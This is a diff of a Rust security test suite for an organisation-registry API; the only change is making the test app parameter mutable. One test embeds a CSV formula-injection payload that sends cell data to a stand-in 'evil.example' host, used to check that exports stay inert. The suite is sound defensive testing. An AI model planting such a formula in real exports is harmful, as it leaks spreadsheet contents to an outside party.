@@ -102,7 +102,7 @@ async fn upload(
 
 /// Every hostile file of the probe answers 4xx within 2 s, and the service
 /// answers after each.
-async fn hostile_spreadsheets_are_refused_quickly(app: TestApp) {
+async fn hostile_spreadsheets_are_refused_quickly(mut app: TestApp) {
     app.seed_registry().await;
     let token = teda_secretariat(&app);
     let before = organizations_count(&app);
@@ -178,7 +178,7 @@ fn organizations_count(app: &TestApp) -> i64 {
 
 /// An import with more rejected cells than a report lists says how many
 /// more there were, and stays small.
-async fn conflict_lists_are_cut_and_counted(app: TestApp) {
+async fn conflict_lists_are_cut_and_counted(mut app: TestApp) {
     app.seed_registry().await;
     let mut csv = String::from("slug,kind,name_zh,joined_on\n");
     for i in 0..5_000 {
@@ -194,7 +194,7 @@ async fn conflict_lists_are_cut_and_counted(app: TestApp) {
 
 /// Role and scope are decided from the token and the path before the body
 /// is read: the refusal comes while the body is still unsent.
-async fn refusals_come_before_the_body(app: TestApp) {
+async fn refusals_come_before_the_body(mut app: TestApp) {
     app.seed_registry().await;
     let viewer = app.viewer();
     let other = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
@@ -262,7 +262,7 @@ impl ProbeTarget {
 }
 
 /// A viewer's invalid body is refused for the role (403), not validated (422).
-async fn validation_comes_after_authorisation(app: TestApp) {
+async fn validation_comes_after_authorisation(mut app: TestApp) {
     app.seed_registry().await;
     let res = app
         .post(
@@ -311,7 +311,7 @@ async fn validation_comes_after_authorisation(app: TestApp) {
 /// Two secretariat tokens share a subject (as every CLI token of a role
 /// once did): the second cannot list, read, change, redeliver or delete
 /// the first's subscription.
-async fn subscriptions_belong_to_their_scope_not_their_subject(app: TestApp) {
+async fn subscriptions_belong_to_their_scope_not_their_subject(mut app: TestApp) {
     app.seed_registry().await;
     let teda = teda_secretariat(&app);
     let dongjiang = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
@@ -362,7 +362,7 @@ async fn subscriptions_belong_to_their_scope_not_their_subject(app: TestApp) {
 
 /// Another tenant's retry with the same key and body is its own request:
 /// it is authorised as one, and gets no replay of the first answer.
-async fn idempotent_replays_stay_with_their_caller(app: TestApp) {
+async fn idempotent_replays_stay_with_their_caller(mut app: TestApp) {
     app.seed_registry().await;
     let key = "probe-key-1";
     let body = json!({"url": "https://hooks.example.com/a"});
@@ -433,7 +433,7 @@ async fn the_throttle_counts_what_routing_and_authentication_use(app: TestApp) {
 }
 
 /// A feed cursor past the newest event is refused, not taken.
-async fn feed_cursors_from_the_future_are_refused(app: TestApp) {
+async fn feed_cursors_from_the_future_are_refused(mut app: TestApp) {
     app.seed_registry().await;
     let viewer = app.viewer();
     let head = app.get("/api/v1/changes?limit=1000", &viewer).await;
@@ -473,7 +473,7 @@ async fn feed_cursors_from_the_future_are_refused(app: TestApp) {
 
 /// A name that a spreadsheet would run as a formula comes out of every CSV
 /// inert, and as plain text in a workbook.
-async fn csv_exports_write_no_live_formulas(app: TestApp) {
+async fn csv_exports_write_no_live_formulas(mut app: TestApp) {
     app.seed_registry().await;
     let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
     let org = app.create_org("formula-co", evil).await;
@@ -518,7 +518,7 @@ async fn csv_exports_write_no_live_formulas(app: TestApp) {
 
 /// NUL in a query, a path, a JSON string or client credentials is a 400
 /// (401 for credentials) on both engines, never a 500.
-async fn nul_characters_are_refused_at_the_edge(app: TestApp) {
+async fn nul_characters_are_refused_at_the_edge(mut app: TestApp) {
     app.seed_registry().await;
     let viewer = app.viewer();
     for path in [
@@ -557,7 +557,7 @@ async fn nul_characters_are_refused_at_the_edge(app: TestApp) {
 
 /// An organisation renamed past what a cell holds still exports, for
 /// everyone, as CSV and as a workbook.
-async fn long_values_never_fail_an_export(app: TestApp) {
+async fn long_values_never_fail_an_export(mut app: TestApp) {
     app.seed_registry().await;
     let long = "长".repeat(195);
     let org = app.create_org("long-co", "长名字公司").await;
@@ -600,7 +600,7 @@ async fn long_values_never_fail_an_export(app: TestApp) {
 
 /// Answers that carry a secret are not to be cached, and a replay of the
 /// request that made one does not show it again (it is kept nowhere).
-async fn secrets_are_shown_once_and_never_cached(app: TestApp) {
+async fn secrets_are_shown_once_and_never_cached(mut app: TestApp) {
     app.seed_registry().await;
     let send = |path: &'static str, body: serde_json::Value| {
         let app = &app;
@@ -686,7 +686,7 @@ async fn token_refusals_do_not_echo_the_token(app: TestApp) {
 
 /// A secretariat that admits another alliance's member cannot then change
 /// the shared record; nor can a member give itself a certification.
-async fn shared_organisations_are_not_taken_over(app: TestApp) {
+async fn shared_organisations_are_not_taken_over(mut app: TestApp) {
     app.seed_registry().await;
     let dongjiang = app.token_for(Role::Secretariat, &["dongjiang-digital-economy"], None);
     let org = app
@@ -762,7 +762,7 @@ async fn shared_organisations_are_not_taken_over(app: TestApp) {
 
 /// A member token reads the alliances its organisation belongs to, whatever
 /// alliances the token lists.
-async fn a_members_scope_follows_its_memberships(app: TestApp) {
+async fn a_members_scope_follows_its_memberships(mut app: TestApp) {
     app.seed_registry().await;
     let untyped = app.token_for(Role::Member, &[], Some("nankai-university"));
     let mistyped = app.token_for(
@@ -915,7 +915,7 @@ fn deliveries_of(app: &TestApp, id: &str) -> Vec<i64> {
 
 /// A subscription made by an account stops receiving events the moment the
 /// account is disabled.
-async fn a_disabled_accounts_subscriptions_stop(app: TestApp) {
+async fn a_disabled_accounts_subscriptions_stop(mut app: TestApp) {
     app.seed_registry().await;
     let made = app
         .post(
